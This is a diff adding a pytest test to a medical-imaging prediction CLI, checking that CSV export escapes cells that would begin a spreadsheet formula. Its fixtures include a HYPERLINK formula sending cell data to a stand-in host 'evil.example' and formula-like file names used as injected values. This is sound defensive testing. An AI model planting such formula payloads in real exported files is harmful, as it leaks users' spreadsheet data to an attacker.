@@ -12,7 +12,7 @@ import pytest
 
 from app import cli
 from app.cli import main
-from app.predict_command import CSV_COLUMNS
+from app.predict_command import CSV_COLUMNS, PrintFormat, render
 from app.settings import Settings
 from tests.api.service_client import png_bytes
 from tests.conftest import EVERY_SLICE, TUMOR_SERIES, make_tiny_model_dir, read_slice
@@ -285,3 +285,30 @@ def test_a_series_over_the_request_size_stops_before_the_models(
     )
     monkeypatch.setattr(cli, "get_settings", lambda: Settings(max_batch_upload_bytes=total))
     assert run(capsys, *map(str, paths), *extra, "--model-dir", "/nonexistent/models")[0] == cli.EXIT_MODELS
+
+
+def test_predict_csv_cells_from_files_never_start_a_formula():
+    formula_uid = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    report = {
+        "results": [
+            {
+                "index": 0,
+                "file": "@SUM(1+1).dcm",
+                "sop_instance_uid": formula_uid,
+                "frame_number": 1,
+                "ok": True,
+                "prediction": {
+                    "tumor_probability": 0.75,
+                    "tumor_detected": True,
+                    "threshold": 0.5,
+                    "mask": {"area_pixels": 12},
+                },
+            },
+            {"index": 1, "file": "-1+2.png", "ok": False, "error": {"code": "empty_file", "message": "empty"}},
+        ]
+    }
+    rows = list(csv.DictReader(io.StringIO(render(report, PrintFormat.CSV))))
+    assert [row["file"] for row in rows] == ["'@SUM(1+1).dcm", "'-1+2.png"]
+    assert rows[0]["sop_instance_uid"] == "'" + formula_uid
+    assert (rows[0]["tumor_probability"], rows[0]["area_pixels"], rows[0]["index"]) == ("0.75", "12", "0")
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
